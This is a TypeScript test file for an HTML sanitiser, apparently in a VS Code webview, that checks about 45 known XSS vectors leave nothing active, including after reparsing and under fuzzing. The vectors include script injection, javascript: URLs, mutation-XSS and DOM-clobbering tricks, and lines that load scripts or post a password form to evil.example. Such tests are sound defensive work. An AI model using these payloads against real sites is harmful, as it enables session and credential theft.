// @vitest-environment jsdom
// DOMPurify supports jsdom and browsers; other imitations of the DOM give it wrong answers.
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import { sanitise } from '../../../webview/ui/outputs/sanitise';

/** What a hostile author tries, from the OWASP and cure53 collections, and what is left to see. */
const vectors = [
  '<script>hacked()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=hacked()>',
  '<img src="javascript:hacked()">',
  '<a href="javascript:hacked()">x</a>',
  '<a href=" &#106;avascript:hacked()">x</a>',
  '<a href="java\tscript:hacked()">x</a>',
  '<a href="vbscript:hacked()">x</a>',
  '<a href="data:text/html,<script>hacked()</script>">x</a>',
  '<a href="command:workbench.action.terminal.new">x</a>',
  '<a href="vscode://evil/run">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<svg onload=hacked()><circle r=1></svg>',
  '<svg><script>hacked()</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:hacked() /><a id=x><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hacked()></svg>#x"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hacked()></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
  '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
  '<listing>&lt;img onerror="hacked();" src=x&gt;</listing>',
  '<iframe srcdoc="<script>hacked()</script>"></iframe>',
  '<iframe src="javascript:hacked()"></iframe>',
  '<object data="data:text/html,<script>hacked()</script>"></object>',
  '<embed src="javascript:hacked()">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; *{display:none}</style>',
  '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:hacked()">Go</button></form>',
  '<input autofocus onfocus=hacked()>',
  '<details open ontoggle=hacked()><summary>x</summary></details>',
  '<video><source onerror=hacked()></video>',
  '<audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<marquee onstart=hacked()>x</marquee>',
  '<template><img src=x onerror=hacked()></template>',
  '<div is=x-y slot=z part=p contenteditable tabindex=1 draggable=true>x</div>',
  '<x-element onclick=hacked()>x</x-element>',
  '<p id=root name=body class=media-input data-vscode-context={} role=button aria-label=Submit>x</p>',
  '<img name=getElementById><form name=querySelector></form>',
  '<a id=defaultView></a><a id=defaultView name=x href=https://evil.example>x</a>',
  '<textarea></textarea><img src=x onerror=hacked()>',
  '<!--<img src="--><img src=x onerror=hacked()//">',
  '<![CDATA[<img src=x onerror=hacked()>]]>',
  '<p>a<!--[if IE]><img src=x onerror=hacked()><![endif]--></p>',
] as const;

const allowedTags = new Set(
  (
    'a abbr b blockquote br caption code dd del details div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins ' +
    'kbd li mark ol p pre q s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var'
  ).split(' '),
);
const allowedAttributes = new Set(
  'align alt colspan dir height href lang open rowspan src start title width'.split(' '),
);

/** Everything in a cleaned fragment that should not be there. */
function offences(fragment: ParentNode): string[] {
  return [...fragment.querySelectorAll('*')].flatMap((element) => [
    ...(allowedTags.has(element.localName) ? [] : [`<${element.localName}>`]),
    ...[...element.attributes].filter((attribute) => !harmless(attribute)).map(({ name, value }) => `${name}=${value}`),
  ]);
}

function harmless({ name, value }: Attr): boolean {
  if (!allowedAttributes.has(name)) return false;
  if (name === 'href') return /^(https?:\/\/|mailto:)/.test(value);
  return name !== 'src' || /^(data:image\/|blob:|https:\/\/[^/]*\.vscode-cdn\.net\/)/.test(value);
}

afterEach(() => document.body.replaceChildren());

describe('sanitise', () => {
  it.each(vectors)('leaves nothing that acts of %s', (vector) => {
    const fragment = sanitise(vector);
    expect(offences(fragment)).toEqual([]);

    // Parsing the result again must not bring anything back: the trick of mutation XSS.
    document.body.append(fragment);
    const again = document.createElement('div');
    again.innerHTML = document.body.innerHTML;
    expect(offences(again)).toEqual([]);
  });

  it('leaves nothing that acts of any mixture of them', () => {
    const piece = fc.oneof(
      fc.constantFrom(...vectors),
      fc.string(),
      fc.constantFrom('<p>', '</p>', '<table>', '<a href="', '">'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        expect(offences(sanitise(pieces.join('')))).toEqual([]);
      }),
      { numRuns: 200 },
    );
  });

  it('keeps what an article needs', () => {
    const markup =
      '<p>A <strong>bold</strong> <em>word</em>, <code>code</code> and <a href="https://example.org/x">a link</a>.</p>' +
      '<ul><li>one</li></ul><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>';
    expect(text(sanitise(markup))).toBe(markup.replace('">a link', '" title="https://example.org/x">a link'));
  });

  it('moves headings below those of the page', () => {
    expect(text(sanitise('<h1>A</h1><h2>B</h2><h6>C</h6>', 3))).toBe('<h3>A</h3><h4>B</h4><h6>C</h6>');
    expect(text(sanitise('<h3>A</h3><h4>B</h4>', 2))).toBe('<h2>A</h2><h3>B</h3>');
  });

  it('shows images that are here and links to those that are elsewhere', () => {
    const here = '<img src="data:image/png;base64,AAAA" alt="dot">';
    expect(text(sanitise(here))).toBe(here);
    expect(text(sanitise('<img src="https://example.org/a.png" alt="a cat">'))).toBe(
      '<a href="https://example.org/a.png">Image: a cat</a>',
    );
    expect(text(sanitise('<a href="https://example.org"><img src="https://example.org/a.png"></a>'))).toContain(
      '<span>Image</span>',
    );
  });

  it('leaves right-to-left marks as text', () => {
    const tricky = 'exe.\u202Egnp\u2066 \u05D0';
    expect(sanitise(tricky).textContent).toBe(tricky);
  });
});

function text(fragment: DocumentFragment): string {
  const holder = document.createElement('div');
  holder.append(fragment);
  return holder.innerHTML;
}
